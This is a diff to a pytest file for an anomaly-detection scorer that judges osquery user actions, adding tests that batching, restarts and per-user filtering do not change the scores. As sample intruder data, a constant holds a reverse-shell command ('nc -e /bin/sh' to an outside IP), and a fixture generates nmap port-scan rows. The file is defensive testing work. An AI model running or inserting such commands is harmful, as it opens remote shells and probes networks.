@@ -3,23 +3,27 @@
 from __future__ import annotations
 
 import json
+import random
 import shutil
 from collections.abc import Callable, Iterator
 from pathlib import Path
-from typing import TYPE_CHECKING
+from typing import TYPE_CHECKING, Any, NamedTuple
 
 import msgspec
 import pytest
 
+from anomaly.background import Background
 from anomaly.identity import Identities
+from anomaly.judgement import EXPLAINED_RISK
 from anomaly.osquery import Action, Parser, Skipped
-from anomaly.records import ALARM, ReasonKind, Severity
-from anomaly.scoring import EXPLAINED_RISK, Scorer
+from anomaly.records import ALARM, ReasonKind, Score, Severity
+from anomaly.scoring import Scorer
 from anomaly.store import Store, Stored
 
 if TYPE_CHECKING:
     from tests.conftest import Event, Trained
 
+Later = Callable[[int, int], list[Action]]
 ALIEN = {"username": "alice", "command": "nc -e /bin/sh 203.0.113.9 4444"}
 
 
@@ -311,6 +315,115 @@ def test_users_do_not_touch_each_other(
         mixed.score("2", theirs)
         found.append(mixed.score("1", mine))
     assert found == expected[: len(found)]
+
+
+class Life(NamedTuple):
+    """Models, what everyone does, and what is in the log after training."""
+
+    models: Path
+    background: Background | None
+    log: list[tuple[str, Action]]
+
+    def scorer(self, said: list[str], **settings: Any) -> Scorer:  # noqa: ANN401 - as the scorer has them
+        """Make a scorer."""
+        return Scorer(Store(self.models).load, background=self.background, say=said.append, **settings)
+
+
+@pytest.fixture(params=["ocsvm", "lstm", "both", "crowd"])
+def life(request: pytest.FixtureRequest, later: Later, crowd: Later) -> Life:
+    """Give a log of users who learn, with baseline rows, strangers, floods, intruders and rows of nobody."""
+    kind = request.param
+    models: Path = request.getfixturevalue(f"{kind}_models")
+    draw, log = random.Random(kind), list[Action]()  # noqa: S311 - sample data
+    own = [action for action in (crowd if kind == "crowd" else later)(420, 8) if action.user in ("alice", "bob")]
+    for number, action in enumerate(own):
+        log.append(action)
+        if draw.random() < 0.05:
+            log.append(msgspec.structs.replace(action, baseline=True))
+        if draw.random() < 0.1:
+            log.append(msgspec.structs.replace(action, user=draw.choice(("mallory", "host:ws1"))))
+        if number in (250, 600):
+            log += [msgspec.structs.replace(action, user="alice")] * 130
+        if number == 700:
+            log += [act(command=f"nmap -p{port} 10.9.{port}.1") for port in range(40)]
+    background = Store(models).load_background() if kind == "crowd" else None
+    return Life(models, background, [(f"f:{number}", action) for number, action in enumerate(log)])
+
+
+def cut(log: list[tuple[str, Action]], seed: int) -> Iterator[list[tuple[str, Action]]]:
+    """Cut a log into batches of one to hundreds, the first of all of it."""
+    draw = random.Random(seed)  # noqa: S311 - places to cut at
+    begin = 0
+    while begin < len(log):
+        size = draw.choice((1, 2, 7, 99, 100, 101, 256, 400)) if seed else len(log)
+        yield log[begin : begin + size]
+        begin += size
+
+
+class TestBatches:
+    """However a log is cut into batches, it is judged the same."""
+
+    def test_cuts_do_not_matter(self, life: Life) -> None:
+        """Scores, reasons, what is said and every user's state are, exactly, those of one action at a time."""
+        told: list[str] = []
+        scorer = life.scorer(told)
+        expected = [score for entry in life.log if (score := scorer.score(*entry)) is not None]
+        state = json.dumps(scorer.export())
+        assert [score.id for score in expected] == [event for event, _ in life.log]
+        assert [score.action for score in expected] == [action for _, action in life.log]
+        assert any(score.reasons for score in expected)
+        assert max(score.risk or 0.0 for score in expected) >= EXPLAINED_RISK
+        assert {score.model.state for score in expected} >= {"ready", "learning" if life.background else "none"}
+        for name in ("alice", "bob"):
+            standing = scorer._users[name]
+            assert standing.adaptation is not None
+            assert standing.adaptation.progress.generation >= 2
+        for seed in range(5):
+            said: list[str] = []
+            other = life.scorer(said)
+            found = [score for batch in cut(life.log, seed) for score in other.score_all(batch)]
+            assert found == expected
+            assert json.dumps(other.export()) == state
+            assert said == told
+
+    @pytest.mark.parametrize("seed", [1, 2])
+    def test_restarts_do_not_matter(self, life: Life, seed: int) -> None:
+        """A restart after any batch changes no figure by more than rounding, and nothing of what was learned."""
+        whole, saved = life.scorer([]), dict[str, Any]()
+        expected, found = whole.score_all(life.log), list[Score]()
+        for batch in cut(life.log, seed):
+            scorer = life.scorer([])
+            scorer.restore(json.loads(json.dumps(saved)))
+            found += scorer.score_all(batch)
+            saved = scorer.export()
+        for one, other in zip(found, expected, strict=True):
+            for name in ("score", "risk", "surprise"):
+                should = getattr(other, name)
+                assert getattr(one, name) == (None if should is None else pytest.approx(should, abs=1e-6))
+            same = {name: getattr(other, name) for name in ("score", "risk", "surprise")}
+            assert msgspec.structs.replace(one, **same) == other
+        ended, should = (json.loads(json.dumps(state)) for state in (saved, whole.export()))
+        for user in ("alice", "bob"):
+            assert ended[user]["admission"] == should[user]["admission"]
+            for name in ("actions", "day"):
+                assert ended[user]["adaptation"][name] == should[user]["adaptation"][name]
+
+    @pytest.mark.parametrize("claims", [False, True])
+    def test_only_one_user(self, life: Life, *, claims: bool) -> None:
+        """Of one user only the user's actions are scored, and where claimed those of nobody, in their order."""
+        mine = {"alice", "host:ws1"} if claims else {"alice"}
+        one, all_at_once = (life.scorer([], only="alice", claims=claims) for _ in range(2))
+        expected = [score for entry in life.log if (score := one.score(*entry)) is not None]
+        assert all_at_once.score_all(life.log) == expected
+        assert [score.id for score in expected] == [event for event, action in life.log if action.user in mine]
+        assert {score.action.user for score in expected} == {"alice"}
+
+    def test_nothing_to_score(self, models: Path) -> None:
+        """A batch of nothing, or of nothing that is ours, gives nothing and moves nothing."""
+        scorer = Scorer(Store(models).load, only="alice")
+        assert scorer.score_all([]) == []
+        assert scorer.score_all([("1", act("bob")), ("2", act("host:ws1"))]) == []
+        assert scorer.export() == {}
 
 
 def flood(event: Event, what: str, time: int) -> list[bytes]:
